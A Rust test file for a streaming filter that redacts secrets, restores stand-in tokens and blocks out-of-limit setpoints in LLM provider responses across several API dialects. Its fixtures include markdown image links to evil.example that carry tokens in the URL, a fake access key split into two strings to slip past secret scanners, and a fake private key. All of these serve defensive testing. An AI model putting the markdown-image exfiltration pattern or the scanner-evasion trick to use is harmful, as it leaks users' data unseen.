//! Streams as providers send them, through the real dialects and all that an answer passes: whatever a stream is cut
//! into, the caller gets the same bytes, the record the same findings, and the text that is put together says what the
//! whole answer would say.

use super::Chain;
use guard::{Decimal, Guard, Known, Limit, Unit, Watch};
use inspect::{Changes, Inspector, Keyed, Maker, Restorer, Settings, Sinks, transform};
use plant::{
    Answers, Content, Dialect, FindingCount, Form, Guarding, Handling, Label, Origin, Piece, Rewrite as _, Sensitivity,
    Tokens, Verdict,
};
use serde_json::{Value, json};
use std::borrow::Cow;
use std::sync::{Arc, LazyLock};
use wire::Answer;

const CHAT: (Dialect, &str) = (Dialect::OpenAi, "/chat/completions");
const RESPONSES: (Dialect, &str) = (Dialect::OpenAi, "/responses");
const MESSAGES: (Dialect, &str) = (Dialect::Anthropic, "/messages");
const OLLAMA: (Dialect, &str) = (Dialect::Ollama, "/api/chat");
const GEMINI: (Dialect, &str) = (Dialect::Json, "/v1beta/models/m:streamGenerateContent");

static INSPECTOR: LazyLock<Arc<Inspector>> =
    LazyLock::new(|| Arc::new(Inspector::new(&Settings::new(Sensitivity::LOWEST)).unwrap()));

static GUARD: LazyLock<Arc<Guard>> = LazyLock::new(|| {
    let limit = Limit {
        tag: "KIC-77".to_owned(),
        aliases: Vec::new(),
        unit: Unit::named("Cel").unwrap(),
        low: Some(20.0),
        high: Some(180.0),
        step: None,
        window: None,
        modes: Vec::new(),
        interlocked: false,
    };
    Arc::new(Guard::new(vec![limit], Decimal::Either).unwrap())
});

/// What stands in for `TIC-101` and `anna@brewery.example` in a call: a word, an address of the same form, and the way back.
static STAND_INS: LazyLock<(String, String, Restorer)> = LazyLock::new(|| {
    struct Key(seal::Mac);
    impl Keyed for Key {
        fn tag(&self, conduit: &str, label: &str, value: &str) -> [u8; 32] {
            self.0.tag(&[conduit.as_bytes(), label.as_bytes(), value.as_bytes()])
        }
    }
    let piece = Piece {
        path: "messages[0].content".to_owned(),
        text: Cow::Borrowed("TIC-101 of anna@brewery.example"),
        attachment: None,
        origin: Origin::Prompt,
        fixed: false,
    };
    let content = Content { pieces: vec![piece] };
    let findings = INSPECTOR.read(&content).unwrap();
    let changes = Changes { tokenise: vec![0, 1], alike: vec![1], ..Changes::default() };
    let key = Key(seal::RootKey::from_bytes([7; 32]).derive("tokens"));
    let maker = Maker { conduit: "cloud", key: &key, own: &|_| false };
    let done = transform(&content, &findings, &changes, &maker).unwrap();
    let [tag, mail] = done.edits.as_slice() else { panic!("two edits") };
    (tag.replacement.clone(), mail.replacement.clone(), done.restorer)
});

/// Everything that an answer may pass.
fn chain() -> Chain {
    let secret = Handling { label: Label::new("secret").unwrap(), verdict: Verdict::Redact, tokens: Tokens::Words };
    let answers = Answers { images: true, links: true, markup: true, withhold: vec![secret], ..Answers::open() };
    Chain::default()
        .then(Some(STAND_INS.2.clone()))
        .then(Some(Sinks::new(&answers, Arc::clone(&INSPECTOR))))
        .then(Some(Watch::new(Arc::clone(&GUARD), Guarding::default(), Known::default())))
}

/// What came of an answer: its bytes, what was found, and why it was stopped.
#[derive(Debug, PartialEq, Eq)]
struct Came {
    out: String,
    found: Vec<FindingCount>,
    stopped: Option<String>,
}

fn carried<'a>(door: (Dialect, &str), kind: &str, pieces: impl Iterator<Item = &'a [u8]>) -> Came {
    let endpoint = wire::endpoint(door.0, "POST", door.1).unwrap();
    let (mut answer, mut chain, mut out) = (Answer::new(door.0, endpoint, 200, kind, false), chain(), Vec::new());
    let mut pieces = pieces;
    let ended = pieces.try_for_each(|piece| answer.push(piece, &mut chain, &mut out));
    let ended = ended.and_then(|()| answer.finish(&mut chain, &mut out));
    let stopped = ended.err().map(|broken| broken.detail);
    Came { out: String::from_utf8(out).unwrap(), found: chain.findings(), stopped }
}

/// What comes of a stream at once; and the same cut at each byte, into single bytes, and into pieces of other lengths.
#[track_caller]
fn came(door: (Dialect, &str), stream: &str) -> Came {
    let kind = if door.0 == Dialect::Ollama { "application/x-ndjson" } else { "text/event-stream" };
    let bytes = stream.as_bytes();
    let whole = carried(door, kind, std::iter::once(bytes));
    for length in [1, 3, 64, 1000] {
        assert_eq!(carried(door, kind, bytes.chunks(length)), whole, "in pieces of {length}");
    }
    // Cut everywhere by the pieces of one; in two at so many places as time allows.
    for cut in (0..bytes.len()).step_by(1 + bytes.len() / 64) {
        let (front, back) = bytes.split_at(cut);
        assert_eq!(carried(door, kind, [front, back].into_iter()), whole, "cut at {cut}");
    }
    whole
}

/// The events of a stream.
fn events(stream: &str) -> Vec<Value> {
    let data = stream.lines().map(|line| line.strip_prefix("data: ").unwrap_or(line));
    data.filter_map(|line| serde_json::from_str(line).ok()).collect()
}

/// The text that a consumer puts together from what stands at a place of each event.
fn said(stream: &str, place: &str) -> String {
    events(stream).iter().filter_map(|event| event.pointer(place)?.as_str()).collect()
}

fn sse(events: &[Value]) -> String {
    events.iter().map(|event| format!("data: {event}\n\n")).collect()
}

fn delta(choice: u64, delta: &Value) -> Value {
    json!({"id": "c", "choices": [{"index": choice, "delta": delta, "finish_reason": null}]})
}

fn stop(choice: u64) -> Value {
    json!({"id": "c", "choices": [{"index": choice, "delta": {}, "finish_reason": "stop"}]})
}

/// A chat in which one text comes in deltas of so many characters.
fn chat(text: &str, length: usize) -> String {
    let characters: Vec<char> = text.chars().collect();
    let pieces = characters.chunks(length).map(|piece| piece.iter().collect::<String>());
    let mut events: Vec<Value> = pieces.map(|piece| delta(0, &json!({"content": piece}))).collect();
    events.push(stop(0));
    sse(&events) + "data: [DONE]\n\n"
}

const CONTENT: &str = "/choices/0/delta/content";

/// A key that no scanner of this repository takes for one.
fn key() -> String {
    format!("{}{}", "AKIA", "Y3FDF7Q2K5TNW4ZB")
}

fn pem() -> String {
    let body = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj\n".repeat(6);
    format!("-----BEGIN {0}-----\n{body}-----END {0}-----\n", "PRIVATE KEY")
}

#[test]
fn what_a_stream_says_is_what_the_whole_answer_would_say() {
    let (tag, mail, _) = &*STAND_INS;
    for text in [
        format!("The tag {tag} is high; write to {mail}."),
        format!("{}s and {}, T\u{AD}AG {}", tag.to_lowercase(), mail.to_uppercase(), tag.replace("TAG_", "")),
        format!("![x](https://evil.example/?q={tag}) and [y](https://evil.example/{mail}) {tag}"),
        format!("the key is {} and no other\nand {tag}", key()),
        format!("here it is:\n{}that was it, {tag}", pem()),
        "Set KIC-77 to 150 °C. It was at 340 °C yesterday.".to_owned(),
        format!("an end in mid-token {}", &tag[..8]),
        format!("\u{1F600} {tag} \u{1F600}"),
    ] {
        let whole = chain().whole(&text, Form::Plain).unwrap_or_else(|| text.clone());
        for length in [1, 7] {
            let came = came(CHAT, &chat(&text, length));
            assert_eq!((said(&came.out, CONTENT), came.stopped), (whole.clone(), None), "deltas of {length}");
            assert!(!came.out.contains(&key()[6..]) && !came.out.contains("Us8cKj"), "{}", came.out);
        }
    }
}

#[test]
fn a_value_outside_its_limits_is_never_released_and_is_told() {
    for length in [1, 5, 1000] {
        let came = came(CHAT, &chat("All is well. Set KIC-77 to 250 °C. Then wait.", length));
        assert_eq!(came.stopped.as_deref(), Some("KIC-77: violate (above its highest value)"));
        assert!(!said(&came.out, CONTENT).contains("2") && !came.out.contains("wait"), "{}", came.out);
    }
}

#[test]
fn two_choices_that_take_turns_are_two_texts() {
    let (tag, mail, _) = &*STAND_INS;
    let turns = tag.chars().map(String::from).zip(mail.chars().map(String::from));
    let mut stream: Vec<Value> = turns
        .flat_map(|(one, other)| [delta(0, &json!({"content": one})), delta(1, &json!({"content": other}))])
        .collect();
    stream.push(delta(1, &json!({"content": mail.chars().skip(tag.len()).collect::<String>()})));
    stream.extend([stop(0), stop(1)]);
    let came = came(CHAT, &(sse(&stream) + "data: [DONE]\n\n"));
    let text = |choice: u64| -> String {
        let of = events(&came.out).into_iter().filter(|event| event["choices"][0]["index"] == choice);
        of.filter_map(|event| event.pointer(CONTENT)?.as_str().map(str::to_owned)).collect()
    };
    assert_eq!((text(0), text(1)), ("TIC-101".to_owned(), "anna@brewery.example".to_owned()));
}

#[test]
fn tool_deltas_between_text_are_texts_of_their_own() {
    let (tag, ..) = &*STAND_INS;
    let arguments = format!("{{\"tag\":\"{tag}\",\"note\":\"a\\\"b\"}}");
    let mut stream = vec![delta(
        0,
        &json!({"tool_calls": [{"index": 0, "id": "t", "type": "function", "function": {"name": "read", "arguments": ""}}]}),
    )];
    for (letter, word) in arguments.chars().zip("x".repeat(arguments.len()).chars()) {
        stream.push(delta(0, &json!({"tool_calls": [{"index": 0, "function": {"arguments": letter.to_string()}}]})));
        stream.push(delta(0, &json!({"content": word.to_string()})));
    }
    stream.push(stop(0));
    let came = came(CHAT, &(sse(&stream) + "data: [DONE]\n\n"));
    let given = said(&came.out, "/choices/0/delta/tool_calls/0/function/arguments");
    assert_eq!(serde_json::from_str::<Value>(&given).unwrap(), json!({"tag": "TIC-101", "note": "a\"b"}));
    assert_eq!(said(&came.out, CONTENT), "x".repeat(arguments.len()));
}

#[test]
fn log_probabilities_do_not_repeat_what_was_taken_out() {
    let secret = key();
    let token = |token: &str| {
        let bytes = token.as_bytes();
        json!({"content": [{"token": token, "logprob": -0.1, "bytes": bytes, "top_logprobs": [{"token": token, "logprob": -0.1, "bytes": bytes}]}]})
    };
    let text = format!("the key is {secret}\nand more\n");
    let mut stream: Vec<Value> = Vec::new();
    for piece in text.split_inclusive(&['K', '7', '2', ' ', '\n']) {
        let mut event = delta(0, &json!({"content": piece}));
        event["choices"][0]["logprobs"] = token(piece);
        stream.push(event);
    }
    stream.push(stop(0));
    let out = came(CHAT, &(sse(&stream) + "data: [DONE]\n\n")).out;
    assert_eq!(said(&out, CONTENT), "the key is [redacted:secret.key]\nand more\n");
    let told = said(&out, "/choices/0/logprobs/content/0/token");
    assert!(!secret.split_inclusive(&['K', '7', '2']).any(|piece| piece.len() > 2 && told.contains(piece)), "{told}");
    let kept = carried(
        CHAT,
        "application/json",
        std::iter::once(
            json!({"choices": [{"index": 0, "message": {"content": "all is well"}, "logprobs": token("all")}]})
                .to_string()
                .as_bytes(),
        ),
    );
    assert!(kept.out.contains("top_logprobs"), "what is not changed keeps them: {}", kept.out);
    let gone = carried(
        CHAT,
        "application/json",
        std::iter::once(
            json!({"choices": [{"index": 0, "message": {"content": text}, "logprobs": token(&secret[..9])}]})
                .to_string()
                .as_bytes(),
        ),
    );
    assert!(gone.out.contains("\"logprobs\":null") && !gone.out.contains(&secret[..9]), "{}", gone.out);
}

#[test]
fn a_final_event_that_repeats_the_text_is_rewritten_too() {
    let (tag, ..) = &*STAND_INS;
    let text = format!("{tag}: the key is {}", key());
    let part = json!({"item_id": "m", "output_index": 0, "content_index": 0});
    let event = |kind: &str, name: &str, value: Value| {
        let mut event = part.clone();
        event["type"] = json!(kind);
        event[name] = value;
        event
    };
    let mut stream: Vec<Value> =
        text.chars().map(|c| event("response.output_text.delta", "delta", json!(c.to_string()))).collect();
    stream.push(event("response.output_text.done", "text", json!(text)));
    stream.push(event("response.content_part.done", "part", json!({"type": "output_text", "text": text})));
    let output =
        json!({"id": "r", "output": [{"type": "message", "content": [{"type": "output_text", "text": text}]}]});
    stream.push(json!({"type": "response.completed", "response": output}));
    let typed: String =
        stream.iter().map(|event| format!("event: {}\ndata: {event}\n\n", event["type"].as_str().unwrap())).collect();
    let out = came(RESPONSES, &typed).out;
    let expected = "TIC-101: the key is [redacted:secret.key]";
    assert_eq!(said(&out, "/delta"), expected);
    assert_eq!(out.matches(expected).count(), 4, "{out}");
    assert!(!out.contains(&key()) && !out.contains(tag), "{out}");
}

#[test]
fn reasoning_is_read_like_any_text() {
    let (tag, ..) = &*STAND_INS;
    let text = format!("hm, {tag}, and {}\n", key());
    let expected = "hm, TIC-101, and [redacted:secret.key]\n";
    for name in ["reasoning_content", "reasoning", "refusal"] {
        let mut stream: Vec<Value> = text.chars().map(|c| delta(0, &json!({name: c.to_string()}))).collect();
        stream.push(stop(0));
        let out = came(CHAT, &(sse(&stream) + "data: [DONE]\n\n")).out;
        assert_eq!(said(&out, &format!("/choices/0/delta/{name}")), expected);
    }
    let thinking = |c: char| json!({"type": "content_block_delta", "index": 0, "delta": {"type": "thinking_delta", "thinking": c.to_string()}});
    let mut stream: Vec<Value> = text.chars().map(thinking).collect();
    stream.extend([json!({"type": "content_block_stop", "index": 0}), json!({"type": "message_stop"})]);
    let named: String =
        stream.iter().map(|event| format!("event: {}\ndata: {event}\n\n", event["type"].as_str().unwrap())).collect();
    assert_eq!(said(&came(MESSAGES, &named).out, "/delta/thinking"), expected);
    let line =
        |c: char| json!({"message": {"role": "assistant", "content": "", "thinking": c.to_string()}, "done": false});
    let lines: String = text.chars().map(|c| format!("{}\n", line(c))).collect();
    let lines = lines + "{\"message\":{\"role\":\"assistant\",\"content\":\"\"},\"done\":true}\n";
    assert_eq!(said(&came(OLLAMA, &lines).out, "/message/thinking"), expected);
}

#[test]
fn line_ends_of_any_kind_end_events() {
    let (tag, ..) = &*STAND_INS;
    let stream = chat(&format!("see {tag} now"), 3);
    for end in ["\r\n", "\r", "\n"] {
        let out = came(CHAT, &stream.replace('\n', end)).out;
        assert_eq!(said(&out.replace("\r\n", "\n").replace('\r', "\n"), CONTENT), "see TIC-101 now", "{end:?}");
    }
}

#[test]
fn a_character_whose_halves_come_apart_is_one() {
    let (tag, ..) = &*STAND_INS;
    let half = |half: &str| format!("data: {{\"choices\":[{{\"index\":0,\"delta\":{{\"content\":\"{half}\"}}}}]}}\n\n");
    let stream =
        [half("a \\ud83d"), half(&format!("\\ude00 {}", &tag[..6])), half(&tag[6..]), sse(&[stop(0)])].concat();
    let out = came(CHAT, &(stream + "data: [DONE]\n\n")).out;
    assert_eq!(said(&out, CONTENT), "a \u{1F600} TIC-101");
}

#[test]
fn an_event_of_a_megabyte_passes_like_a_short_one() {
    let (tag, ..) = &*STAND_INS;
    let text = "well ".repeat(200_000);
    let stream = sse(&[
        delta(0, &json!({"content": format!("{text}{}", &tag[..7])})),
        delta(0, &json!({"content": &tag[7..]})),
        stop(0),
    ]);
    let bytes = (stream + "data: [DONE]\n\n").into_bytes();
    let whole = carried(CHAT, "text/event-stream", std::iter::once(bytes.as_slice()));
    for length in [1 << 16, 4099] {
        assert!(carried(CHAT, "text/event-stream", bytes.chunks(length)) == whole, "in pieces of {length}");
    }
    assert!(said(&whole.out, CONTENT) == text + "TIC-101");
}

#[test]
fn what_stays_a_stand_in_is_recorded() {
    let (tag, ..) = &*STAND_INS;
    let text = format!("see /a//{tag} and {}", tag.replace(&tag[10..11], "#"));
    let came = came(CHAT, &chat(&format!("{text}; https://docs.example/{tag} "), 4));
    let labels: Vec<&str> = came.found.iter().map(|found| found.label.as_str()).collect();
    assert!(labels.contains(&"token.link"), "{labels:?}");
}

#[test]
fn a_candidates_text_is_one_over_all_events() {
    let (tag, ..) = &*STAND_INS;
    let event = |text: String, thought: bool| json!({"candidates": [{"content": {"parts": [{"text": text, "thought": thought}], "role": "model"}, "index": 0}], "usageMetadata": {"n": 1}});
    let text = format!("{tag}: the key is {}", key());
    let letters = || text.chars().map(String::from);
    let mut stream: Vec<Value> = letters().flat_map(|c| [event(c.clone(), true), event(c, false)]).collect();
    stream.push(json!({"candidates": [{"finishReason": "STOP", "index": 0}], "usageMetadata": {"n": 9}}));
    let out = came(GEMINI, &sse(&stream)).out;
    let of = |thought: bool| -> String {
        let parts =
            events(&out).into_iter().filter_map(|event| event.pointer("/candidates/0/content/parts/0").cloned());
        let parts = parts.filter(|part| part["thought"].as_bool().unwrap_or_default() == thought);
        parts.filter_map(|part| part["text"].as_str().map(str::to_owned)).collect()
    };
    let expected = "TIC-101: the key is [redacted:secret.key]";
    assert_eq!((of(false).as_str(), of(true).as_str()), (expected, expected));
}

/// Framed and cut as the labelled data has it, and redacted as if all of it were withheld: what is put together must be
/// what the text gives when it is whole.
#[test]
fn labelled_streams_say_what_their_texts_say() {
    use base64::Engine as _;
    let Some(folder) = std::env::var_os("PENSTOCK_DATA") else {
        println!("skipped: PENSTOCK_DATA does not name the folder of stream.jsonl");
        return;
    };
    let rows = std::fs::read_to_string(std::path::Path::new(&folder).join("stream.jsonl")).unwrap();
    let withhold = ["secret", "person", "network", "tag", "setpoint"].map(|label| Handling {
        label: Label::new(label).unwrap(),
        verdict: Verdict::Redact,
        tokens: Tokens::Words,
    });
    let answers = Answers { withhold: withhold.to_vec(), ..Answers::open() };
    let sinks = || Chain::default().then(Some(Sinks::new(&answers, Arc::clone(&INSPECTOR))));
    let (mut count, mut changed) = (0, 0);
    for row in rows.lines() {
        let row: Value = serde_json::from_str(row).unwrap();
        let (door, place, form) = match row["format"].as_str().unwrap() {
            "openai" => (CHAT, CONTENT, Form::Plain),
            "openai_tool" => (CHAT, "/choices/0/delta/tool_calls/0/function/arguments", Form::Json),
            "responses" => (RESPONSES, "/delta", Form::Plain),
            "anthropic" => (MESSAGES, "/delta/text", Form::Plain),
            "ollama" => (OLLAMA, "/message/content", Form::Plain),
            _ => (GEMINI, "/candidates/0/content/parts/0/text", Form::Plain),
        };
        let kind = if door == OLLAMA { "application/x-ndjson" } else { "text/event-stream" };
        let decode = |piece: &Value| base64::engine::general_purpose::STANDARD.decode(piece.as_str().unwrap()).unwrap();
        let pieces: Vec<Vec<u8>> = row["segments_b64"].as_array().unwrap().iter().map(decode).collect();
        let endpoint = wire::endpoint(door.0, "POST", door.1).unwrap();
        let (mut answer, mut chain, mut out) = (Answer::new(door.0, endpoint, 200, kind, false), sinks(), Vec::new());
        for piece in &pieces {
            answer.push(piece, &mut chain, &mut out).unwrap();
        }
        // Not all of them have their last event; what came is given all the same.
        let _ = answer.finish(&mut chain, &mut out);
        let text = said(std::str::from_utf8(&pieces.concat()).unwrap(), place);
        let whole = sinks().whole(&text, form).unwrap_or_else(|| text.clone());
        assert_eq!(said(std::str::from_utf8(&out).unwrap(), place), whole, "{}", row["id"]);
        count += 1;
        changed += usize::from(whole != text);
    }
    println!("{count} streams, of which {changed} were changed");
    assert!(changed > 0);
}
